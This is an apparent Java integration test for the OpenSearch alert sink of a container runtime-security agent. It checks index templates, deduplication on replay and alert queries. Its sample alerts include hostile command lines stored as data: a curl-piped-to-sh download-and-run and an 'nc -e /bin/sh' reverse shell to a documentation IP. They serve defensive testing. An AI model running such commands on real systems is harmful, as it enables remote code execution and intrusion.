package dev.vigil.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.vigil.alert.Alert;
import dev.vigil.alert.Priority;
import dev.vigil.common.Metrics;
import dev.vigil.sink.delivery.Envelope;
import dev.vigil.sink.opensearch.IndexTemplate;
import dev.vigil.sink.opensearch.OpenSearchConfig;
import dev.vigil.sink.opensearch.OpenSearchDestination;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * {@link OpenSearchDestination} against a real OpenSearch ({@link OpenSearchServer}, the integ-test distribution from
 * Maven Central): the template is installed and gives the documents its mapping, alerts are found by keyword
 * (rule, container.name), full-text and date-range queries, and the same alert delivered again, also by a fresh
 * destination that remembers nothing (an agent restarted and replaying its spool), stays one document.
 */
class OpenSearchSinkIT {

  private static OpenSearchServer os;

  @BeforeAll
  static void start() throws Exception {
    os = OpenSearchServer.start();
    System.out.printf("OpenSearch %s started in %.1f s%n", OpenSearchServer.VERSION, os.startup().toMillis() / 1e3);
  }

  @AfterAll
  static void stop() throws Exception {
    if (os != null) {
      os.close();
    }
  }

  private static OpenSearchConfig config(String index, boolean dataStream) throws Exception {
    return OpenSearchConfig.bind(new com.fasterxml.jackson.databind.ObjectMapper().readTree(
        "{\"url\":\"" + os.url() + "\",\"index\":\"" + index + "\",\"data_stream\":" + dataStream + "}"));
  }

  static Alert alert(String time, String rule, Priority p, String container, String cmdline) {
    Instant t = Instant.parse(time);
    Map<String, Object> f = new LinkedHashMap<>();
    f.put("evt.time", t.getEpochSecond() * 1_000_000_000L + t.getNano());
    f.put("evt.type", "execve");
    f.put("container.id", container.equals("web") ? "0123456789ab" : "abcdef012345");
    f.put("container.name", container);
    f.put("container.image", container.equals("web") ? "nginx:1.27" : "postgres:16");
    f.put("container.image.repository", container.equals("web") ? "nginx" : "postgres");
    f.put("container.image.tag", container.equals("web") ? "1.27" : "16");
    f.put("proc.cmdline", cmdline);
    f.put("proc.pid", 4242);
    f.put("vigil.score", 0.75);
    f.put("evt.is_open_write", false);
    f.put("container.label[com.docker.compose.service]", container);
    return new Alert(t, rule, p, rule + " (container=" + container + " cmdline=" + cmdline + ")", "syscall",
        List.of("container", "mitre_execution"), "it-host", f);
  }

  private static List<Envelope> alerts() {
    List<Envelope> b = new ArrayList<>();
    b.add(new Envelope(UUID.randomUUID().toString(), alert("2026-11-28T23:59:58.123456789Z", "Shell in container",
        Priority.WARNING, "web", "sh -c 'curl http://example.test/x | sh'")));
    b.add(new Envelope(UUID.randomUUID().toString(), alert("2026-11-29T00:00:01Z", "Shell in container",
        Priority.WARNING, "db", "bash -i")));
    b.add(new Envelope(UUID.randomUUID().toString(), alert("2026-11-29T08:30:00Z", "Reverse shell",
        Priority.CRITICAL, "web", "nc -e /bin/sh 203.0.113.7 4444")));
    return b;
  }

  private static long hits(String index, String query) throws Exception {
    return os.ok("POST", "/" + index + "/_search", "{\"query\":" + query + "}").path("hits").path("total")
        .path("value").asLong();
  }

  @Test
  void dailyIndicesGetTheTemplatesMapping_duplicatesStayOneDocument_queriesFindAlerts() throws Exception {
    Metrics metrics = Metrics.inMemory();
    OpenSearchConfig cfg = config("vigil-it-daily", false);
    List<Envelope> batch = alerts();
    OpenSearchDestination d = new OpenSearchDestination(cfg, metrics);
    d.deliver(batch);
    assertThat(d.templateInstalled()).isTrue();
    d.deliver(batch); // the delivery layer's retry: every id is remembered, nothing is sent
    OpenSearchDestination restarted = new OpenSearchDestination(cfg, metrics);
    restarted.deliver(batch); // a replay after a restart: the server answers 409 for each
    assertThat(metrics.count("vigil.sink.duplicates", "sink", "opensearch")).isEqualTo(3);
    assertThat(metrics.count("vigil.sink.rejected", "sink", "opensearch")).isZero();

    String all = "vigil-it-daily-*";
    os.ok("POST", "/" + all + "/_refresh", null);
    assertThat(os.get("/" + all + "/_count").path("count").asLong()).isEqualTo(3);
    JsonNode indices = os.get("/_cat/indices/" + all + "?format=json&h=index");
    List<String> names = new ArrayList<>();
    indices.forEach(n -> names.add(n.path("index").asText()));
    assertThat(names).containsExactlyInAnyOrder("vigil-it-daily-2026.11.28", "vigil-it-daily-2026.11.29");

    // every id is there once, under its own _id
    for (Envelope e : batch) {
      JsonNode doc = os.get("/vigil-it-daily-" + (e.alert().time().toString().startsWith("2026-11-28")
          ? "2026.11.28" : "2026.11.29") + "/_doc/" + e.id());
      assertThat(doc.path("_source").path("vigil").path("alert_id").asText()).isEqualTo(e.id());
      assertThat(doc.path("_source").path("uuid").asText()).isEqualTo(e.id());
      assertThat(doc.path("_source").path("rule").asText()).isEqualTo(e.alert().rule());
    }

    // keyword queries, full text, a date range on @timestamp
    assertThat(hits(all, "{\"term\":{\"rule\":\"Shell in container\"}}")).isEqualTo(2);
    assertThat(hits(all, "{\"term\":{\"rule\":\"shell in container\"}}")).isZero();
    assertThat(hits(all, "{\"term\":{\"container.name\":\"db\"}}")).isEqualTo(1);
    assertThat(hits(all, "{\"term\":{\"container.image\":\"nginx:1.27\"}}")).isEqualTo(2);
    assertThat(hits(all, "{\"term\":{\"priority\":\"Critical\"}}")).isEqualTo(1);
    assertThat(hits(all, "{\"range\":{\"vigil.severity\":{\"lte\":" + Priority.ERROR.ordinal() + "}}}")).isEqualTo(1);
    assertThat(hits(all, "{\"term\":{\"output_fields.container_image_repository\":\"postgres\"}}")).isEqualTo(1);
    assertThat(hits(all, "{\"match\":{\"output_fields.proc_cmdline\":\"curl\"}}")).isEqualTo(1);
    assertThat(hits(all, "{\"term\":{\"output_fields.proc_cmdline.keyword\":\"bash -i\"}}")).isEqualTo(1);
    assertThat(hits(all, "{\"match\":{\"output\":\"reverse\"}}")).isEqualTo(1);
    assertThat(hits(all, "{\"range\":{\"@timestamp\":{\"gte\":\"2026-11-29T00:00:00Z\","
        + "\"lt\":\"2026-11-29T08:00:00Z\"}}}")).isEqualTo(1);
    assertThat(hits(all, "{\"range\":{\"@timestamp\":{\"gte\":\"2026-11-28T23:59:58.100Z\","
        + "\"lte\":\"2026-11-28T23:59:58.200Z\"}}}")).isEqualTo(1);
    assertThat(hits(all, "{\"range\":{\"output_fields.proc_pid\":{\"gte\":4000}}}")).isEqualTo(3);

    // the mapping the template gave
    JsonNode props = os.get("/vigil-it-daily-2026.11.29/_mapping").path("vigil-it-daily-2026.11.29")
        .path("mappings").path("properties");
    assertThat(type(props, "@timestamp")).isEqualTo("date");
    assertThat(type(props, "time")).isEqualTo("date");
    for (String kw : List.of("rule", "priority", "source", "hostname", "tags", "uuid", "container.id", "container.name",
        "container.image", "vigil.alert_id", "output_fields.container_id", "output_fields.container_name",
        "output_fields.container_image", "output_fields.container_image_repository", "output_fields.evt_type",
        "output_fields.container_label[com_docker_compose_service]")) {
      assertThat(type(props, kw)).as(kw).isEqualTo("keyword");
    }
    assertThat(type(props, "output")).isEqualTo("text");
    assertThat(field(props, "output").path("fields").path("keyword").path("type").asText()).isEqualTo("keyword");
    assertThat(type(props, "output_fields.proc_cmdline")).isEqualTo("text");
    assertThat(field(props, "output_fields.proc_cmdline").path("fields").path("keyword").path("type").asText())
        .isEqualTo("keyword");
    assertThat(type(props, "output_fields.evt_time")).isEqualTo("long");
    assertThat(type(props, "output_fields.proc_pid")).isEqualTo("long");
    assertThat(type(props, "output_fields.vigil_score")).isEqualTo("double");
    assertThat(type(props, "output_fields.evt_is_open_write")).isEqualTo("boolean");
    assertThat(type(props, "vigil.severity")).isEqualTo("byte");

    JsonNode template = os.get("/_index_template/vigil-it-daily").path("index_templates").get(0)
        .path("index_template");
    assertThat(template.path("version").asInt()).isEqualTo(IndexTemplate.VERSION);
    assertThat(template.path("index_patterns").toString()).isEqualTo("[\"vigil-it-daily-*\"]");
  }

  /**
   * The whole path on a real agent configured only on the command line: a wget in a container becomes an alert,
   * the OpenSearch sink indexes it, a query finds it by container name, and the store kept it as --store-retention
   * asked.
   */
  @Test
  void anAgentConfiguredOnTheCommandLine_indexesItsAlerts() throws Exception {
    DockerCli.requireEngineAndImages();
    String index = "vigil-it-agent";
    Agent agent = Agent.start("monitor", "--opensearch-url", os.url().toString(), "--opensearch-index", index,
        "-o", "sinks.opensearch.max_batch=10", "-o", "sinks.opensearch.min_priority=notice",
        "--store-retention", "2d").awaitReady(Duration.ofSeconds(30));
    String name = DockerCli.uniqueName("os-agent");
    try {
      DockerCli.runShell(name, "sleep 1; wget -q -O- http://127.0.0.1:1/ ; sleep 30");
      String rule = "Remote file copy tool launched in container";
      String id = agent.awaitAlert(Agent.rule(rule, name), Duration.ofSeconds(20)).path("uuid").asText();
      assertThat(id).hasSize(36);
      // the alerts file's line and the indexed document are the same alert: one id in every sink
      String query = "{\"bool\":{\"filter\":[{\"term\":{\"rule\":\"" + rule + "\"}},"
          + "{\"term\":{\"container.name\":\"" + name + "\"}},{\"term\":{\"uuid\":\"" + id + "\"}}]}}";
      long end = System.nanoTime() + Duration.ofSeconds(30).toNanos();
      long found = 0;
      while (found == 0 && System.nanoTime() < end) {
        os.request("POST", "/" + index + "-*/_refresh", null);
        OpenSearchServer.Response r = os.request("POST", "/" + index + "-*/_search", "{\"query\":" + query + "}");
        found = r.status() == 200 ? r.json().path("hits").path("total").path("value").asLong() : 0;
        if (found == 0) {
          Thread.sleep(250);
        }
      }
      assertThat(found).as("alerts of %s indexed in %s-*; agent log:%n%s", name, index, agent.stderrText())
          .isGreaterThanOrEqualTo(1);
      assertThat(os.get("/_index_template/" + index).path("index_templates").get(0).path("index_template")
          .path("index_patterns").toString()).isEqualTo("[\"" + index + "-*\"]");
      DockerCli.Result st = Agent.vigil("alerts", "--data-dir", agent.dataDir().toString(), "--container", name,
          "--json");
      assertThat(st.out()).as(st.err()).contains(rule).contains("\"uuid\":\"" + id + "\"");
    } finally {
      agent.stop();
      DockerCli.exec("rm", "-f", name);
    }
  }

  @Test
  void aDataStreamTakesCreateActionsAndStaysIdempotent() throws Exception {
    Metrics metrics = Metrics.inMemory();
    OpenSearchConfig cfg = config("vigil-it-stream", true);
    List<Envelope> batch = alerts();
    new OpenSearchDestination(cfg, metrics).deliver(batch);
    new OpenSearchDestination(cfg, metrics).deliver(batch);
    assertThat(metrics.count("vigil.sink.duplicates", "sink", "opensearch")).isEqualTo(3);

    JsonNode ds = os.get("/_data_stream/vigil-it-stream").path("data_streams").get(0);
    assertThat(ds.path("name").asText()).isEqualTo("vigil-it-stream");
    assertThat(ds.path("timestamp_field").path("name").asText()).isEqualTo("@timestamp");
    os.ok("POST", "/vigil-it-stream/_refresh", null);
    assertThat(os.get("/vigil-it-stream/_count").path("count").asLong()).isEqualTo(3);
    assertThat(hits("vigil-it-stream", "{\"term\":{\"container.name\":\"web\"}}")).isEqualTo(2);
    assertThat(hits("vigil-it-stream", "{\"range\":{\"@timestamp\":{\"gte\":\"2026-11-29T08:00:00Z\"}}}"))
        .isEqualTo(1);
    String backing = ds.path("indices").get(0).path("index_name").asText();
    JsonNode props = os.get("/" + backing + "/_mapping").path(backing).path("mappings").path("properties");
    assertThat(type(props, "rule")).isEqualTo("keyword");
    assertThat(type(props, "output_fields.proc_cmdline")).isEqualTo("text");
  }

  /** The mapping node of a dotted field path. */
  private static JsonNode field(JsonNode props, String dotted) {
    JsonNode n = props;
    String[] parts = dotted.startsWith("@") ? new String[] {dotted} : dotted.split("\\.(?![^\\[]*\\])");
    for (int i = 0; i < parts.length; i++) {
      n = n.path(parts[i]);
      if (i < parts.length - 1) {
        n = n.path("properties");
      }
    }
    return n;
  }

  private static String type(JsonNode props, String dotted) {
    JsonNode f = field(props, dotted);
    return f.has("type") ? f.path("type").asText() : f.has("properties") ? "object" : "missing";
  }
}
